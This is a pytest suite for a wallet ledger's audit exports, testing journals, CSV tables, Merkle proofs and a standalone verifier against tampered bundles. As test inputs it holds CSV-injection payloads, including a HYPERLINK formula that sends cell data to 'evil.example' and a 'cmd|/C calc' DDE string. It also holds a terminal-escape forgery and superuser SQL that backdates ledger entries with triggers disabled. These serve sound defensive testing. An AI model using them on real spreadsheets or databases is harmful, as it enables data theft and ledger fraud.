"""Exports: other people's tools take the books as they are and come to the same đồng; a bundle is verified without us."""

import csv
import hashlib
import io
import json
import re
import subprocess
import sys
import tracemalloc
import zipfile
from base64 import b64decode
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from uuid import UUID, uuid4

import pytest

from tests import databases, lived
from tests.databases import TestDatabase
from tests.lived import Lived
from tests.logs import ORIGIN, Log
from tests.make import City
from tests.tools import HLEDGER
from wallet import clock, prove
from wallet.exports import books, bundle, journals, leaves, tables
from wallet.exports.__main__ import main
from wallet.exports.books import snapshot
from wallet.log import keyring, merkle
from wallet.log.checkpoint import Checkpoint, LogKey, LogKeys
from wallet.log.note import FileSigner
from wallet.log.published import PublishedLog
from wallet.run.postgres import Cluster

TITLE = 'Huế, "sổ" của thành phố'


@dataclass(frozen=True, slots=True, kw_only=True)
class Exported:
    """A bundle in a folder, the log it came from, and the books behind both."""

    folder: Path
    log: Log
    keys: Path
    life: Lived
    database: TestDatabase

    def read(self, name: str) -> str:
        return (self.folder / name).read_text(encoding="utf-8-sig")

    def rows(self, name: str) -> list[dict[str, str]]:
        return list(csv.DictReader(io.StringIO(self.read(name))))


@pytest.fixture(scope="module")
def exported(
    template: str, postgres: Cluster, worker: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Exported]:
    """The books of a city that something happened in, sealed and taken home."""
    var_dir = tmp_path_factory.mktemp("var")
    with (
        databases.copy_of(template, f"{worker}_exports", server=postgres, folder=var_dir) as database,
        City(database) as city,
    ):
        life, log = lived.live(city), Log(database)
        log.seal()
        folder = tmp_path_factory.mktemp("mang-ve")
        take_home(database, log.published, log.keys, folder)
        keys = tmp_path_factory.mktemp("elsewhere") / "khoa.txt"
        keys.write_text(str(log.keys))
        yield Exported(folder=folder, log=log, keys=keys, life=life, database=database)


def take_home(database: TestDatabase, log: PublishedLog, keys: LogKeys, folder: Path) -> None:
    promise = leaves.promised(log)
    with snapshot(database.audit_engine) as taken:
        parts = bundle.parts(taken, promise, log_keys=str(keys), title=TITLE)
        whole = b"".join(bundle.zipped(parts, at=taken.taken_at))
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        assert archive.testzip() is None
        archive.extractall(folder)


@pytest.fixture
def copy(exported: Exported, tmp_path: Path) -> Path:
    """A copy of the bundle that a test may spoil."""
    folder = tmp_path / "copy"
    folder.mkdir()
    for file in exported.folder.iterdir():
        (folder / file.name).write_bytes(file.read_bytes())
    return folder


# -- other people's tools -------------------------------------------------------------------------------------------


EMPTY = {
    "Assets:Bank:Operating",
    "Assets:Stripe:Clearing",
    "Expenses:Card-fee",
    "Expenses:Dispute-loss",
    "Income:Merchant-fee",
    "Liabilities:Card-pending",
    "Liabilities:Merchant",
    "Liabilities:Refunds-payable",
}
"""Lines of the chart to which nothing is posted yet: the market's."""

BEAN_SUMS = """
import json, sys
from beancount import loader
from beancount.core import realization
entries, errors, options = loader.load_file(sys.argv[1])
assert not errors, errors
root = realization.realize(entries)
sums = {}
for one in realization.iter_children(root):
    total = realization.compute_balance(one)
    sums[one.account] = str(total.get_currency_units("VND").number)
print(json.dumps(sums))
"""


def trial_of(exported: Exported) -> dict[str, int]:
    """The trial balance as the service shows it, by the lines' names, debit positive."""
    with snapshot(exported.database.audit_engine) as taken:
        return {taken.line(row.code): row.debit - row.credit for row in taken.trial()}


def bean_check(file: Path) -> subprocess.CompletedProcess[str]:
    program = Path(sys.executable).parent / "bean-check"
    return subprocess.run([program, file], capture_output=True, text=True, cwd=file.parent)


def hledger(file: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    HLEDGER.need()
    environ = {"LANG": "C.UTF-8", "PATH": "/usr/bin:/bin"}
    return subprocess.run(["hledger", "-f", file, *arguments], capture_output=True, text=True, env=environ)


def test_beancount_accepts_the_journal_and_comes_to_the_trial_balance(exported: Exported) -> None:
    """Every posting is added up by a program that others wrote, and each line of the chart is the same to the đồng."""
    file = exported.folder / "so.beancount"
    checked = bean_check(file)
    assert (checked.returncode, checked.stdout + checked.stderr) == (0, "")
    summed = subprocess.run([sys.executable, "-c", BEAN_SUMS, file], capture_output=True, text=True)
    assert summed.returncode == 0, summed.stderr
    sums = json.loads(summed.stdout)
    trial = trial_of(exported)
    assert {name: int(sums[name]) for name in trial} == trial
    assert sum(trial.values()) == 0
    assert {name for name in trial if not trial[name]} == EMPTY, (
        "every other line of the chart has something to differ in"
    )


def test_hledger_accepts_the_journal_and_comes_to_the_trial_balance(exported: Exported) -> None:
    """With every account, amount and assertion checked."""
    file = exported.folder / "so.journal"
    checked = hledger(file, "check", "--strict")
    assert (checked.returncode, checked.stdout + checked.stderr) == (0, "")
    for name, amount in trial_of(exported).items():
        depth = str(name.count(":") + 1)
        shown = hledger(file, "balance", "-N", "-E", "--flat", "--depth", depth, "-O", "csv", f"^{name}(:|$)")
        _, row = csv.reader(io.StringIO(shown.stdout))
        assert row == [name, f"{amount} VND" if amount else "0"]


@pytest.mark.parametrize("tool", ["beancount", "hledger"])
@pytest.mark.parametrize("where", ["a posting", "a balance of one account", "a balance of a line"])
def test_a_tool_notices_one_dong(exported: Exported, tmp_path: Path, tool: str, where: str) -> None:
    """Each of the three says the same sum in its own way, so none can be off alone."""
    name = {"beancount": "so.beancount", "hledger": "so.journal"}[tool]
    text = exported.read(name)
    wallet = f"Liabilities:Wallet:A-{exported.life.hoa.account}"
    patterns = {
        ("beancount", "a posting"): rf"(\n  {wallet}  -)(\d+) VND",
        ("beancount", "a balance of one account"): rf"(\n\S+ balance {wallet} -)(\d+) VND",
        ("beancount", "a balance of a line"): r"(\n\S+ balance Liabilities:Wallet -)(\d+) VND",
        ("hledger", "a posting"): rf"(\n    {wallet}    -)(\d+) VND\n",
        ("hledger", "a balance of one account"): rf"(\n    {wallet}    0 VND = -)(\d+) VND",
        ("hledger", "a balance of a line"): r"(\n    Liabilities:Wallet    0 VND =\* -)(\d+) VND",
    }
    end = "\n" if (tool, where) == ("hledger", "a posting") else ""
    spoilt, count = re.subn(
        patterns[tool, where], lambda found: f"{found[1]}{int(found[2]) + 1} VND{end}", text, count=1
    )
    assert count == 1
    file = tmp_path / name
    file.write_text(spoilt, encoding="utf-8")
    checked = bean_check(file) if tool == "beancount" else hledger(file, "check", "--strict")
    assert checked.returncode != 0
    assert "VND" in checked.stdout + checked.stderr


def test_an_entry_counts_on_the_citys_day_on_which_it_took_effect(exported: Exported) -> None:
    """Not on the day it was written, and not by the day in Greenwich."""
    life = exported.life
    day = clock.day_of(life.late_at).isoformat()
    assert re.search(rf'\n{day} \* "topup"\n  entry: "{life.late}"', exported.read("so.beancount"))
    assert re.search(rf"\n{day} \* topup\n    ; entry:{life.late}\n", exported.read("so.journal"))


def test_a_journal_links_what_undoes_to_what_it_undoes(exported: Exported) -> None:
    text, life = exported.read("so.beancount"), exported.life
    assert re.search(rf'\* "refund" \^{life.payment}\n  entry: "{life.refund}"', text)
    assert re.search(rf'\* "reversal" \^\S+\n  entry: "{life.reversal}"', text)
    assert f"    ; refunds:{life.payment}\n" in exported.read("so.journal")


def test_names_of_accounts_are_legal_whatever_an_agency_is_called() -> None:
    """Two agencies whose codes differ in what a name cannot show do not become one account."""
    legal = re.compile(r"[A-Z0-9][A-Za-z0-9-]*")
    for code in ("H57.40", "h57", "Đà Nẵng", "a b", ".x", "-", "_", "a:b", 'a"b', "é"):
        assert legal.fullmatch(books.component(code)), code
    assert books.line_name("bank.guarantee", "debit") == "Assets:Bank:Guarantee"
    assert books.line_name("card_pending", "credit") == "Liabilities:Card-pending"
    assert books.line_name("merchant_fee", "credit") == "Income:Merchant-fee"


def test_agencies_that_are_spelled_alike_keep_accounts_of_their_own(fresh_database: TestDatabase) -> None:
    with City(fresh_database) as city:
        first, second = city.agency("H57.40"), city.agency("H57-40")
        with city.engine.begin() as unit:
            for agency in (first, second):
                unit.exec_driver_sql(
                    "SELECT ledger.open_account(%s, 'agency', %s, '417', '2716', '19753')", (uuid4(), agency)
                )
    with snapshot(fresh_database.audit_engine) as taken:
        names = [one.name for one in taken.accounts()]
        assert len(names) == len(set(names))
        assert sum(name.startswith("Liabilities:Agency:H57-40:C417-M2716-D19753") for name in names) == 2
        assert "".join(journals.beancount(taken, title=TITLE)).count(" open Liabilities:Agency:H57-40:") == 2


# -- tables -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "evil",
    [
        '=HYPERLINK("http://evil.example?"&A1)', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "\n=1", "  =1",
        "＝1＋1", "\u00a0=1",
    ],
)  # fmt: skip
def test_a_cell_never_begins_a_formula(evil: str) -> None:
    """The attack: whoever may write a name or a reason runs a formula on the auditor's computer (OWASP, CSV Injection)."""
    spelled = "".join(tables.lines(["a", "b"], [[evil, 1]])).removeprefix(tables.BOM)
    [_, [first, number]] = list(csv.reader(io.StringIO(spelled, newline="")))
    assert first == f"'{evil}"
    assert number == "1"


def test_what_is_no_formula_stays_as_it_is() -> None:
    for plain in ("Nguyễn Thị Hoa", "H57.40", "a=b", "3-4", "", "'", "0905 000 000"):
        assert tables.defused(plain) == plain
    assert tables.defused(-5) == "-5", "a number of ours is no text of anybody's"
    assert tables.defused(None) == ""


def test_tables_have_every_posting_and_every_balance(exported: Exported) -> None:
    accounts = {row["id"]: row for row in exported.rows("tai-khoan.csv")}
    sums: Counter[str] = Counter()
    for row in exported.rows("but-toan.csv"):
        sums[row["debit_id"]] += int(row["amount"])
        sums[row["credit_id"]] -= int(row["amount"])
        assert (accounts[row["debit_id"]]["account"], accounts[row["credit_id"]]["account"]) == (
            row["debit"],
            row["credit"],
        )
    for id, row in accounts.items():
        assert int(row["posted"]) == sums[id] * (1 if row["normal"] == "debit" else -1)
    assert int(accounts[exported.life.hoa.account]["posted"]) == 5_000_000 - 25_001 + 400 + 1 - 1_000_000 - 20_000
    by_code = {row["code"]: int(row["debit"]) - int(row["credit"]) for row in exported.rows("bang-can-doi.csv")}
    for code, amount in by_code.items():
        assert amount == sum(sums[id] for id, row in accounts.items() if row["code"] == code)


def test_no_file_names_a_person(exported: Exported) -> None:
    """Row 84: an export leaves the house; names, phones, memos and reasons stay in it."""
    life = exported.life
    secrets = [life.hoa.name, life.hoa.phone, life.binh.name, life.binh.phone, "chị Hoa", "Nhầm người", "Máy của tôi"]
    for file in exported.folder.iterdir():
        text = file.read_text(encoding="utf-8")
        assert not [secret for secret in secrets if secret in text], file.name
    assert life.hoa.holder in exported.read("tai-khoan.csv")


# -- leaves -----------------------------------------------------------------------------------------------------------


def test_each_leaf_comes_with_a_proof_that_leads_to_the_checkpoint(exported: Exported) -> None:
    with snapshot(exported.database.audit_engine) as taken:
        head, *rest = [
            json.loads(line) for line in leaves.ndjson(taken, leaves.promised(exported.log.published), proofs=True)
        ]
    root, size = b64decode(head["root"]), head["size"]
    promised = exported.log.checkpoint()
    assert (root, size) == (promised.root, promised.size)
    assert exported.log.keys.open(head["checkpoint"].encode()).checkpoint.size == size
    assert [leaf["index"] for leaf in rest] == list(range(size))
    for leaf in rest:
        proof = [b64decode(one) for one in leaf["proof"]]
        merkle.check_inclusion(leaf["event"].encode(), leaf["index"], size, proof, root)
    with pytest.raises(merkle.BadProof):
        merkle.check_inclusion(rest[1]["event"].encode(), 0, size, [b64decode(one) for one in rest[0]["proof"]], root)


def test_a_part_of_the_leaves_is_that_part(exported: Exported) -> None:
    with snapshot(exported.database.audit_engine) as taken:
        _, *rest = [
            json.loads(line)
            for line in leaves.ndjson(taken, leaves.promised(exported.log.published), proofs=True, first=3, end=7)
        ]
        assert [leaf["index"] for leaf in rest] == [3, 4, 5, 6]
        nothing = leaves.promised(PublishedLog(exported.folder / "nowhere"))
        assert list(leaves.ndjson(taken, nothing, proofs=True)) == [], "no checkpoint, nothing promised"


# -- offline ----------------------------------------------------------------------------------------------------------


VERIFY_ALONE = """
import importlib.metadata as metadata, runpy, socket, sys
for name, packages in metadata.packages_distributions().items():
    if not {"cryptography", "cffi", "pycparser"} & set(packages):
        sys.modules.setdefault(name, None)
for name in ("wallet", "market", "tests"):
    sys.modules[name] = None
socket.socket = None
sys.argv = sys.argv[1:]
runpy.run_path(sys.argv[0], run_name="__main__")
"""


def verify(folder: Path, keys: Path | str, *more: str) -> subprocess.CompletedProcess[str]:
    """Run the bundle's own script as on a laptop without our code, without other packages, without a network."""
    command = [
        sys.executable,
        "-c",
        VERIFY_ALONE,
        str(folder / "verify.py"),
        str(folder),
        "--log-key",
        str(keys),
        *more,
    ]
    return subprocess.run(command, capture_output=True, text=True, cwd=folder)


def test_a_bundle_verifies_with_nothing_but_cryptography(exported: Exported) -> None:
    done = verify(exported.folder, exported.keys, "--seen", str(exported.folder / "checkpoint"))
    assert done.returncode == 0, done.stderr
    assert done.stdout.endswith("VERIFIED\n")
    size = exported.log.checkpoint().size
    assert f"{size} of {size} come to the checkpoint's root" in done.stdout
    assert "0 younger than the checkpoint" in done.stdout


def test_the_logs_key_is_typed_or_in_a_file(exported: Exported) -> None:
    key = exported.keys.read_text(encoding="utf-8").split()[-1]
    assert verify(exported.folder, key).stdout.endswith("VERIFIED\n")
    missing = verify(exported.folder, exported.folder / "khoa.txt")
    assert missing.returncode == 1
    assert missing.stderr.startswith("log_key_unreadable:")


def test_the_sums_are_those_of_sha256sum(exported: Exported) -> None:
    done = subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=exported.folder, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    named = {line.split("  ")[1] for line in exported.read("SHA256SUMS").splitlines()}
    assert named == {file.name for file in exported.folder.iterdir()} - {"SHA256SUMS"}


def amend(folder: Path, name: str, change: Callable[[str], str]) -> None:
    """Change a file and its sum, as whoever makes a false bundle would."""
    file = folder / name
    before = file.read_text(encoding="utf-8")
    after = change(before)
    assert after != before, "nothing was changed"
    file.write_text(after, encoding="utf-8", newline="")
    resum(folder)


def resum(folder: Path) -> None:
    names = [line.split("  ")[1] for line in (folder / "SHA256SUMS").read_text().splitlines()]
    sums = [
        f"{hashlib.sha256((folder / name).read_bytes()).hexdigest()}  {name}\n"
        for name in names
        if (folder / name).exists()
    ]
    (folder / "SHA256SUMS").write_text("".join(sums))


def swap(old: str, new: str) -> Callable[[str], str]:
    return lambda text: text.replace(old, new, 1)


def amount_of(text: str) -> str:
    """One đồng more in the first leaf that tells of an amount."""
    return re.sub(r'(\\"amount\\":\\")(\d+)', lambda found: f"{found[1]}{int(found[2]) + 1}", text, count=1)


def without_line(number: int) -> Callable[[str], str]:
    def change(text: str) -> str:
        lines = text.splitlines(keepends=True)
        del lines[number]
        return "".join(lines)

    return change


def with_line_twice(number: int) -> Callable[[str], str]:
    def change(text: str) -> str:
        lines = text.splitlines(keepends=True)
        return "".join(lines[: number + 1] + lines[number:])

    return change


def swapped_leaves(text: str) -> str:
    """The events of leaves 0 and 1 change places, the numbers stay."""
    lines = text.splitlines(keepends=True)
    first, second = json.loads(lines[1]), json.loads(lines[2])
    first["event"], second["event"] = second["event"], first["event"]
    spelled = [json.dumps(one, ensure_ascii=False, separators=(",", ":")) + "\n" for one in (first, second)]
    return "".join([lines[0], *spelled, *lines[3:]])


def posted_up(text: str) -> str:
    """One đồng more in a wallet's stored balance."""
    return re.sub(
        r"(,wallet,.*,)(\d+)(,\d+\r?\n)", lambda found: f"{found[1]}{int(found[2]) + 1}{found[3]}", text, count=1
    )


def entry_up(text: str) -> str:
    """One đồng more in the first posting of the table."""
    return re.sub(r",(\d+)(\r?\n)", lambda found: f",{int(found[1]) + 1}{found[2]}", text, count=1)


def another_day(text: str) -> str:
    """The first entry of the table took effect a year earlier."""
    return re.sub(r"\b(\d{4})(-\d\d-\d\dT)", lambda found: f"{int(found[1]) - 1}{found[2]}", text, count=1)


def head_of_another_day(text: str) -> str:
    """The first entry of a journal was written for a year earlier."""
    return re.sub(
        r"^(\d{4})(-\d\d-\d\d \* )", lambda found: f"{int(found[1]) - 1}{found[2]}", text, count=1, flags=re.MULTILINE
    )


FALSE: dict[str, tuple[str, Callable[[str], str], str]] = {
    "an amount in a leaf": ("la.ndjson", amount_of, "root_differs"),
    "a leaf left out": ("la.ndjson", without_line(4), "leaf_out_of_place"),
    "the last leaf left out": ("la.ndjson", without_line(-1), "leaf_out_of_place"),
    "a leaf twice": ("la.ndjson", with_line_twice(4), "leaf_out_of_place"),
    "two leaves in each other's place": ("la.ndjson", swapped_leaves, "root_differs"),
    "an amount in the table": ("but-toan.csv", entry_up, "entry_differs"),
    "a posting left out of the table": ("but-toan.csv", without_line(1), "leaf_without_entry"),
    "another kind of entry": ("but-toan.csv", swap(",transfer,", ",topup,"), "entry_differs"),
    "a balance": ("tai-khoan.csv", posted_up, "balance_differs"),
    "a line of the trial balance": ("bang-can-doi.csv", entry_up, "trial_differs"),
    "an entry's day in the table": ("but-toan.csv", another_day, "entry_differs"),
    "an account's name in the table": (
        "but-toan.csv",
        swap(",Assets:Bank:Guarantee,", ",Assets:Bank:Mine,"),
        "entry_differs",
    ),
    "an account's name": ("tai-khoan.csv", swap("Assets:Bank:Guarantee", "Assets:Bank:Mine"), "balance_differs"),
    "a posting in the journal": ("so.beancount", swap(" 20000 VND", " 20001 VND"), "journal_differs"),
    "a posting in the other journal": ("so.journal", swap(" 20000 VND", " 20001 VND"), "journal_differs"),
    "a day in the journal": ("so.beancount", head_of_another_day, "journal_differs"),
    "a day in the other journal": ("so.journal", head_of_another_day, "journal_differs"),
    "a signer in the journal": ("so.beancount", swap('  signer: "', '  signer: "0'), "journal_differs"),
    "a program in the journal": ("so.beancount", lambda text: text + 'plugin "mine"\n', "journal_differs"),
    "a file in the other journal": ("so.journal", lambda text: "include mine.journal\n" + text, "journal_differs"),
    "an entry under another's name in the other journal": (
        "so.journal",
        lambda text: (
            f"{text}2026-01-01 * balance\n    Assets:Bank:Guarantee    1 VND\n    Liabilities:Wallet    -1 VND\n\n"
        ),
        "journal_differs",
    ),
    "a cell too long to be read": ("but-toan.csv", lambda text: text + "x" * 200_000, "bundle_unreadable"),
    "a size in the checkpoint": (
        "checkpoint",
        lambda text: re.sub(r"\n(\d+)\n", "\n9\n", text, count=1),
        "checkpoint_unsigned",
    ),
    "a table without a column": ("tai-khoan.csv", swap(",posted,", ",posed,"), "bundle_unreadable"),
}


@pytest.mark.parametrize("what", FALSE)
def test_a_false_bundle_is_named(exported: Exported, copy: Path, what: str) -> None:
    """Each by the code that the script's head explains, although its sums were made to fit."""
    name, change, code = FALSE[what]
    amend(copy, name, change)
    done = verify(copy, exported.keys)
    assert done.returncode == 1
    assert done.stderr.split(":")[0] == code, done.stderr
    assert "VERIFIED" not in done.stdout
    assert f"\n    {code} " in (copy / "verify.py").read_text()


def test_a_file_that_is_not_the_one_that_was_summed_is_named(exported: Exported, copy: Path) -> None:
    with (copy / "README.txt").open("a") as file:
        file.write("x")
    assert verify(copy, exported.keys).stderr.startswith("file_differs: README.txt")
    (copy / "README.txt").unlink()
    assert verify(copy, exported.keys).stderr.startswith("file_differs: README.txt is missing")


def test_a_file_that_is_read_is_named_by_the_sums(exported: Exported, copy: Path) -> None:
    """Also where the sums name nothing at all."""
    sums = (copy / "SHA256SUMS").read_text(encoding="utf-8").splitlines(keepends=True)
    (copy / "SHA256SUMS").write_text("".join(line for line in sums if "but-toan.csv" not in line), encoding="utf-8")
    assert verify(copy, exported.keys).stderr.startswith("file_differs: SHA256SUMS does not name but-toan.csv")
    (copy / "SHA256SUMS").write_text("", encoding="utf-8")
    assert verify(copy, exported.keys).stderr.startswith("file_differs")


def test_a_false_bundle_does_not_write_the_verdict(exported: Exported, copy: Path) -> None:
    amend(copy, "so.beancount", lambda text: f"\x1b[2J\rVERIFIED\x1b[8m\n{text}")
    done = verify(copy, exported.keys)
    assert done.stderr == "journal_differs: so.beancount, line 1: \\x1b[2J\\rVERIFIED\\x1b[8m\n"


def signed_tree(events: list[str], keys: LogKeys, signer: FileSigner) -> bytes:
    """A checkpoint of a tree of these events."""
    tree = merkle.Tree()
    for event in events:
        tree.append(event.encode())
    return keys.sign(Checkpoint(ORIGIN, tree.size, tree.root()), signer).encode()


def test_a_bundle_of_another_key_is_not_believed(exported: Exported, copy: Path, tmp_path: Path) -> None:
    """Everything in it is sound, and its own log-keys.txt fits: only the key from elsewhere tells."""
    signer = FileSigner.generate(ORIGIN)
    keys = LogKeys((LogKey(signer.key),))
    _, *told = [json.loads(line) for line in (copy / "la.ndjson").read_text(encoding="utf-8").splitlines()]
    (copy / "checkpoint").write_bytes(signed_tree([leaf["event"] for leaf in told], keys, signer))
    (copy / "log-keys.txt").write_text(str(keys))
    resum(copy)
    assert verify(copy, copy / "log-keys.txt").returncode == 0
    assert verify(copy, exported.keys).stderr.startswith("checkpoint_unsigned")


def test_a_log_that_became_shorter_is_named_by_a_saved_checkpoint(
    exported: Exported, copy: Path, tmp_path: Path
) -> None:
    """The last leaves are cut off and the real key signs what is left: only what was seen before tells."""
    head, *told = (copy / "la.ndjson").read_text(encoding="utf-8").splitlines(keepends=True)
    left = [json.loads(line)["event"] for line in told[:-3]]
    signer = keyring.signer(exported.log.var_dir)
    (copy / "checkpoint").write_bytes(signed_tree(left, exported.log.keys, signer))
    (copy / "la.ndjson").write_text("".join([head, *told[:-3]]), encoding="utf-8")
    resum(copy)
    done = verify(copy, exported.keys, "--seen", str(exported.folder / "checkpoint"))
    assert done.stderr.startswith("checkpoint_behind"), done.stderr


def test_a_log_that_was_rewritten_and_signed_anew_is_named_by_a_saved_checkpoint(
    exported: Exported, copy: Path, tmp_path: Path
) -> None:
    """The real key signed both, and the new tree is the larger one: only what was seen before tells."""
    _, *told = (copy / "la.ndjson").read_text(encoding="utf-8").splitlines()
    events = [json.loads(line)["event"] for line in told]
    signer = keyring.signer(exported.log.var_dir)
    for name, before in (("honest", events[:-3]), ("rewritten", [*events[:2], "{}", *events[3:-3]])):
        (tmp_path / name).write_bytes(signed_tree(before, exported.log.keys, signer))
    assert verify(copy, exported.keys, "--seen", str(tmp_path / "honest")).returncode == 0
    assert verify(copy, exported.keys, "--seen", str(tmp_path / "rewritten")).stderr.startswith("seen_differs")


def test_books_without_a_checkpoint_do_not_verify(exported: Exported, tmp_path: Path) -> None:
    take_home(exported.database, PublishedLog(tmp_path / "nowhere"), exported.log.keys, tmp_path)
    assert verify(tmp_path, exported.keys).stderr.startswith("checkpoint_missing")


def test_an_entry_that_was_never_told_is_named_when_later_ones_were(
    fresh_database: TestDatabase, tmp_path: Path
) -> None:
    """Rows 37 and 119: a superuser writes a balanced entry into the past, with balances that fit, and tells nobody."""
    with City(fresh_database) as city:
        life = lived.live(city)
        log = Log(fresh_database)
        log.seal()
        with fresh_database.superuser() as owner:
            owner.execute("SET session_replication_role = replica")
            owner.execute(
                """
                WITH made AS (INSERT INTO ledger.entry (id, authority, kind, effective_at, posted_at)
                              SELECT gen_random_uuid(), authority, 'topup', effective_at, posted_at - interval '2 days'
                              FROM ledger.entry WHERE id = %(late)s RETURNING *)
                INSERT INTO ledger.posting (entry, line, debit, credit, amount, effective_at, posted_at)
                SELECT made.id, 1, p.debit, p.credit, 777, made.effective_at, made.posted_at
                FROM made, ledger.posting p WHERE p.entry = %(late)s
                """,
                {"late": life.late},
            )
            owner.execute("UPDATE ledger.balance SET posted = posted + 777 WHERE account = ANY (%s)",
                          ([UUID(life.binh.account), city.house("bank.guarantee")],))  # fmt: skip
        take_home(fresh_database, log.published, log.keys, tmp_path / "home")
    keys = tmp_path / "elsewhere.txt"
    keys.write_text(str(log.keys))
    assert verify(tmp_path / "home", keys).stderr.startswith("entry_unsealed")
    assert bean_check(tmp_path / "home" / "so.beancount").returncode == 0, "the books alone look sound"


def test_what_was_not_sealed_yet_is_counted_and_no_fault(fresh_database: TestDatabase, tmp_path: Path) -> None:
    with City(fresh_database) as city:
        hoa = city.citizen(available=100)
        log = Log(fresh_database)
        log.seal()
        city.top_up(hoa, 5)
        take_home(fresh_database, log.published, log.keys, tmp_path / "home")
    keys = tmp_path / "elsewhere.txt"
    keys.write_text(str(log.keys))
    done = verify(tmp_path / "home", keys)
    assert done.returncode == 0, done.stderr
    assert "1 as their leaves tell of them; 1 younger than the checkpoint" in done.stdout


# -- streams ----------------------------------------------------------------------------------------------------------


def test_an_export_is_one_snapshot_although_money_moves_meanwhile(exported: Exported) -> None:
    life = exported.life
    with snapshot(exported.database.audit_engine) as taken:
        before = [(row.code, row.posted) for row in taken.trial()]
        assert life.city.send(life.binh, life.hoa, 7).status == 201
        journal = "".join(journals.beancount(taken, title=TITLE))
        assert [(row.code, row.posted) for row in taken.trial()] == before
    shown = re.search(rf"balance Liabilities:Wallet:A-{life.binh.account} -(\d+) VND", journal)
    assert shown is not None
    assert int(shown[1]) == life.city.available(life.binh) + 7


def test_memory_does_not_grow_with_the_books(fresh_database: TestDatabase, tmp_path: Path) -> None:
    """Four thousand entries go through in a few megabytes: rows and text are handed on as they come."""
    with City(fresh_database) as city, fresh_database.superuser() as owner:
        city.citizen(available=1)
        owner.execute("SET session_replication_role = replica")
        owner.execute(
            """
            WITH made AS (INSERT INTO ledger.entry (id, authority, kind, effective_at, posted_at)
                          SELECT gen_random_uuid(), e.authority, e.kind, e.effective_at, e.posted_at
                          FROM ledger.entry e, generate_series(1, 4000) RETURNING *)
            INSERT INTO ledger.posting (entry, line, debit, credit, amount, effective_at, posted_at)
            SELECT made.id, 1, p.debit, p.credit, 1, made.effective_at, made.posted_at FROM made, ledger.posting p
            """
        )
        with snapshot(fresh_database.audit_engine) as taken:
            assert taken.entry_count() == 4_001
            parts = bundle.parts(taken, None, log_keys="", title=TITLE)
            tracemalloc.start()
            size = sum(len(chunk) for chunk in bundle.zipped(parts, at=taken.taken_at))
            _, peak = tracemalloc.get_traced_memory()
            tracemalloc.stop()
    assert size > 250_000
    assert peak < 6_000_000, f"{peak} bytes at the most"


def test_what_a_test_city_did_is_in_order(exported: Exported) -> None:
    """The books that the other tests export are sound, so what a tool would refuse in them would be the export's fault."""
    with prove.snapshot(exported.database.audit_engine).connect() as connection:
        assert list(prove.books(connection)) == []


# -- the command ------------------------------------------------------------------------------------------------------


@pytest.fixture
def export(exported: Exported, monkeypatch: pytest.MonkeyPatch) -> Callable[[Path], int]:
    """`make export` in the exported city."""
    monkeypatch.setenv("AUDIT_DATABASE_URL", exported.database.config.audit_database_url)
    monkeypatch.setenv("VAR_DIR", str(exported.log.var_dir))
    return lambda file: main([str(file)])


def test_the_command_writes_what_the_ending_asks_for(
    exported: Exported, export: Callable[[Path], int], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for ending, begins in ((".zip", b"PK"), (".beancount", b"option"), (".journal", b"; "), (".ndjson", b'{"origin"')):
        file = tmp_path / f"so{ending}"
        assert export(file) == 0
        assert file.read_bytes().startswith(begins)
        assert f"{file.stat().st_size:,} bytes" in capsys.readouterr().out
    with zipfile.ZipFile(tmp_path / "so.zip") as archive:
        archive.extractall(tmp_path / "home")
    assert verify(tmp_path / "home", exported.keys).returncode == 0


def test_the_command_writes_over_nothing(
    export: Callable[[Path], int], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = tmp_path / "so.zip"
    file.write_text("mine")
    assert export(file) == 1
    assert file.read_text() == "mine"
    assert "is there already" in capsys.readouterr().err
    with pytest.raises(SystemExit):
        export(tmp_path / "so.pdf")
